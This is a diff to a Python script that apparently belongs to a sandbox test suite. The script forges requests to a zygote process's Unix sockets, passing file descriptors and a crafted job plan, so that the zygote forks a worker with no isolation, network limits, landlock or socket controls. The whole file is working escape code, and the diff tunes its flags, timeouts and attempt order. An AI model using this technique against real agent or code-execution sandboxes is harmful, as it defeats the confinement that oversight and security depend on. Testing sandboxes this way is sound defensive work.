@@ -1,7 +1,6 @@
 # name: have a zygote fork a worker without a sandbox, by a forged request to its socket
 # line: 67
 # finding: 2
-# control: sockets
 import array
 import ctypes
 import glob
@@ -11,9 +10,9 @@ import select
 import socket
 import struct
 
-from attack import STAGE, refused, through, try_each
+from attack import STAGE, try_each
 
-CLONE_NEWPID = 0x20000000
+KEEPERS_NAMESPACES = 0x20000000 | 0x00020000
 SYS_PIDFD_OPEN = 434
 MARKER = f"{STAGE['home']}/ran-by-a-zygote"
 PLAN = {"isolation": "none", "network": "machine", "view": [], "landlock": None, "sockets": None, "rlimits": [],
@@ -41,12 +40,12 @@ def forged(path, kind, target):
     kept, kept_theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
     _, out = os.pipe()
     asking.setblocking(False)
-    asking.sendmsg([struct.pack("<Iii", 1, CLONE_NEWPID, 0)],
+    asking.sendmsg([struct.pack("<Iii", 1, KEEPERS_NAMESPACES, 0)],
                    rights(pid, theirs.fileno(), kept_theirs.fileno(), out, out), 0, path)
     plan = json.dumps(PLAN).encode()
     job = os.memfd_create("job")
     os.write(job, struct.pack("<I", len(plan)) + plan + b"/\0PATH=/usr/bin:/bin\0HOME=/")
-    channel.settimeout(4)
+    channel.settimeout(1)
     channel.recv(64)
     channel.sendmsg([b"J"], rights(job))
     kept.sendall(frame({"kind": "turn_start", "turn": 1}, CODE.encode()))
@@ -54,14 +53,14 @@ def forged(path, kind, target):
 
 
 def worker_answers(kept):
-    while select.select([kept], [], [], 4)[0]:
+    while select.select([kept], [], [], 2)[0]:
         data = kept.recv(65536)
         if not data or b'"idle"' in data:
             return b'"idle"' in data
     return False
 
 
-paths = glob.glob(f"{STAGE['runtime']}/z/*") or [f"{STAGE['runtime']}/z/{n}.sock" for n in range(8)]
-ways = [("datagram socket", None), ("datagram pair", socket.SOCK_DGRAM), ("raw pair", socket.SOCK_RAW)]
+paths = glob.glob(f"{STAGE['runtime']}/z/*") or [f"{STAGE['runtime']}/z/{n}.sock" for n in range(4)]
+ways = [("raw pair", socket.SOCK_RAW), ("datagram socket", None), ("datagram pair", socket.SOCK_DGRAM)]
 try_each([(f"{name} to {os.path.basename(path)}", lambda p=path, k=kind, t=target: forged(p, k, t))
-          for path in paths for name, kind in ways for target in (os.getpid(), 1)])
+          for target in (os.getpid(), 1) for path in paths for name, kind in ways][:12])
